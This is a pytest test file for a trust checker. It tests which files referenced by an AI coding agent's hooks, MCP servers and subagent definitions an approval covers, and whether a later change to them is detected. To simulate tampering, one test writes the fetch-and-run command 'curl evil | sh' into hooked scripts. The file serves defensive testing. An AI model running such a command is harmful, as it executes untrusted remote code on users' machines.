"""Which files a yes is given to: all that the agent reads by itself, and what the commands in there name."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from hostile_folders import deep_tree
from leadrope import errors
from leadrope.runtime.trust import files, trust


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    folder = tmp_path / "repo"
    (folder / ".git").mkdir(parents=True)
    (folder / ".claude").mkdir()
    for name in (
        "scripts/hello.sh",
        "scripts/my hook.sh",
        "scripts/index.js",
        "tools/check.py",
        "Makefile",
        "package.json",
    ):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("as it was")
    return folder


def hook(repo: Path, command: str) -> None:
    told = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": command}]}]}}
    (repo / ".claude" / "settings.json").write_text(json.dumps(told))


def names(folder: Path, user_home: Path | None = None) -> list[str]:
    return sorted(files.collect(folder, user_home).files)


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("sh scripts/hello.sh", "scripts/hello.sh"),
        ("REPO/scripts/hello.sh --quick", "scripts/hello.sh"),
        ('"$CLAUDE_PROJECT_DIR"/scripts/hello.sh', "scripts/hello.sh"),
        ("${CLAUDE_PROJECT_DIR}/scripts/hello.sh", "scripts/hello.sh"),
        ("sh 'scripts/my hook.sh'", "scripts/my hook.sh"),
        ("cd scripts && ./hello.sh;true", "scripts/hello.sh"),
        ("bash -c 'source scripts/hello.sh'", "scripts/hello.sh"),
        ("it's broken; scripts/hello.sh", "scripts/hello.sh"),
        ("make setup", "Makefile"),
        ("npm run -s lint", "package.json"),
        ("node scripts", "scripts/index.js"),
        ("python3 -m tools.check", "tools/check.py"),
    ],
)
def test_what_a_hook_names_counts(tmp_path: Path, repo: Path, command: str, named: str) -> None:
    hook(repo, command.replace("REPO", str(repo)))
    assert named in names(repo)
    trust.remember(tmp_path, trust.look(tmp_path, str(repo)))
    (repo / named).write_text("curl evil | sh")
    assert trust.look(tmp_path, str(repo)).changed == (named,)


def test_a_server_and_the_head_of_a_subagent_name_files_too(repo: Path) -> None:
    (repo / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"a": {"command": "node", "args": ["scripts/index.js"]}}})
    )
    (repo / ".claude" / "agents").mkdir()
    (repo / ".claude" / "agents" / "one.md").write_text(
        '---\nname: one\nhooks:\n  Stop:\n    - hooks:\n      - command: "sh scripts/hello.sh"\n---\n'
    )
    assert names(repo) == [".claude/agents/one.md", ".mcp.json", "scripts/hello.sh", "scripts/index.js"]


def test_rules_and_files_of_others_start_nothing(tmp_path: Path, repo: Path) -> None:
    (tmp_path / "mine.sh").touch()
    rules = {
        "permissions": {"allow": ["Bash(npm run *)", "Read(Makefile)"]},
        "statusLine": {"command": f"{tmp_path}/mine.sh"},
    }
    (repo / ".claude" / "settings.json").write_text(json.dumps(rules))
    (repo / ".claude" / "worktrees" / "one").mkdir(parents=True)
    (repo / ".claude" / "worktrees" / "one" / "settings.json").touch()
    assert names(repo) == [".claude/settings.json"]


def test_a_folder_that_is_a_link_counts_with_what_is_in_it(repo: Path) -> None:
    (repo / ".claude" / "agents").symlink_to("../tools")
    (repo / ".claude" / "again").symlink_to(".")
    found = files.collect(repo)
    assert list(found.files) == [".claude/agents/check.py"]
    assert sorted(found.folders) == [f"{repo}/.claude", f"{repo}/tools"]


def test_subagents_of_the_folders_above_count_up_to_the_root_of_the_repository(tmp_path: Path, repo: Path) -> None:
    """The agent takes them from there. What lies above the repository, or in the user's home, is no repository's."""
    inner = repo / "packages" / "one"
    (inner / ".claude").mkdir(parents=True)
    for folder in (inner, repo, tmp_path):
        (folder / ".claude").mkdir(exist_ok=True)
        (folder / ".claude" / "agent.md").touch()
    assert names(inner) == ["../../.claude/agent.md", ".claude/agent.md"]
    (repo / ".git").rmdir()
    assert names(inner, tmp_path) == ["../../.claude/agent.md", ".claude/agent.md"]
    assert names(tmp_path, tmp_path) == [".claude/agent.md"], "asked for by name it is looked at"


@pytest.mark.parametrize("what", ["many", "large", "link"])
def test_what_cannot_be_watched_cannot_be_trusted(tmp_path: Path, repo: Path, what: str) -> None:
    """Else a yes would hold whatever becomes of it."""
    (repo / ".claude" / "settings.json").write_text("{}")
    if what == "many":
        for number in range(files.MOST_FILES):
            (repo / ".claude" / str(number)).touch()
    elif what == "large":
        with (repo / ".claude" / "big").open("wb") as file:
            file.truncate(files.MOST_BYTES + 1)
    else:
        (repo / ".claude").rename(repo / "other")
        (repo / ".claude").symlink_to("other")
    found = trust.look(tmp_path, str(repo))
    assert found.state == "untrusted"
    with pytest.raises(errors.BadDirectory, match=r"cannot be trusted: \.claude"):
        trust.remember(tmp_path, found)


def test_a_pipe_is_not_waited_for(repo: Path) -> None:
    os.mkfifo(repo / ".claude" / "settings.json")
    assert files.collect(repo).files == {".claude/settings.json": "no file"}


def test_what_must_stay_as_it_is_are_whole_folders_and_the_files_that_are_named(tmp_path: Path, repo: Path) -> None:
    hook(repo, "scripts/hello.sh; make")
    (repo / ".claude" / "agents").mkdir()
    (repo / ".claude" / "agents" / "a.md").touch()
    kept = trust.look(tmp_path, str(repo)).kept()
    assert kept == (f"{repo}/.claude", f"{repo}/Makefile", f"{repo}/scripts/hello.sh")


def test_a_tree_that_is_too_deep_is_not_trusted(repo: Path) -> None:
    with deep_tree(repo / ".claude", 1200):
        found = files.collect(repo)
    assert "more than 64 folders deep" in found.problem
    assert len(found.files) < 100
